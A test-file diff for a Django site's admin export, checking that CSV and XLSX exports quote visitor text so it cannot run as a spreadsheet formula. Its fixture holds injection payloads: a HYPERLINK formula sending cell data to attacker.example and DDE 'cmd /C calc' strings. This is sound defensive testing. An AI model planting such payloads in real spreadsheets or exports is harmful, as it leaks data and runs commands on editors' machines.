@@ -124,3 +124,80 @@ def test_admin_export_downloads_a_spreadsheet(client, practices):
     assert content.splitlines()[0].startswith("slug,")
     assert "departement" in content.splitlines()[0]
     assert "salariés en insertion | 913" in content
+
+
+# Formula injection: visitors' text must not run in an editor's spreadsheet ---------------
+
+HOSTILE = {
+    "title": '=HYPERLINK("https://attacker.example/?d="&C2,"Ouvrir")',
+    "authority_name": "+cmd|' /C calc'!A0",
+    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "body": "- une liste Markdown\n- qui commence par un tiret",
+    "contact_name": "\tTabulation",
+    "contact_url": "",
+}
+FIGURE_LABEL = "-2+3+cmd(' /C calc')"  # no « | »: it separates a figure's parts
+
+
+@pytest.fixture
+def hostile_proposal(db):
+    practice = make_practice(
+        levers=[make_lever()],
+        status=Practice.Status.PROPOSED,
+        published_at=None,
+        figures=[(FIGURE_LABEL, 3)],
+        **HOSTILE,
+    )
+    # A text that already starts with the quote must survive the round trip too.
+    make_practice(levers=[make_lever()], title="'=déjà protégé", summary="'simple citation")
+    return practice
+
+
+def admin_export(client, fmt_index):
+    client.force_login(make_staff("Éditeurs"))
+    fields = [f"practiceresource_{name}" for name in PracticeResource._meta.fields]
+    response = client.post(
+        "/admin/practices/practice/export/",
+        {"format": str(fmt_index), "resource": "0", **dict.fromkeys(fields, "on")},
+    )
+    assert response.status_code == 200
+    return response.content
+
+
+def test_admin_csv_export_quotes_every_cell_that_would_run_as_a_formula(client, hostile_proposal):
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(admin_export(client, 0).decode("utf-8-sig"))))
+    row = next(r for r in rows if r["slug"] == hostile_proposal.slug)
+    for field, value in HOSTILE.items():
+        if value:
+            assert row[field] == "'" + value, field
+    assert row["chiffres_cles"].startswith("'" + FIGURE_LABEL)
+    other = next(r for r in rows if r["slug"] != hostile_proposal.slug)
+    assert other["title"] == "''=déjà protégé"
+    assert other["summary"] == "'simple citation"
+
+
+def test_admin_xlsx_export_holds_text_cells_and_no_formula(client, hostile_proposal):
+    import io
+
+    import openpyxl
+
+    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, 1))).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [c.value for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert "'" + HOSTILE["title"] in texts
+    assert "'" + HOSTILE["authority_name"] in texts
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_hostile_text_survives_an_export_import_round_trip(hostile_proposal, fmt):
+    before = snapshot()
+    exported = PracticeResource().export().export(fmt)
+    dataset = tablib.Dataset().load(exported, format=fmt)
+    result = PracticeResource().import_data(dataset, user=make_staff(PUBLISHERS))
+    assert not result.has_errors(), result.row_errors()
+    assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
+    assert snapshot() == before
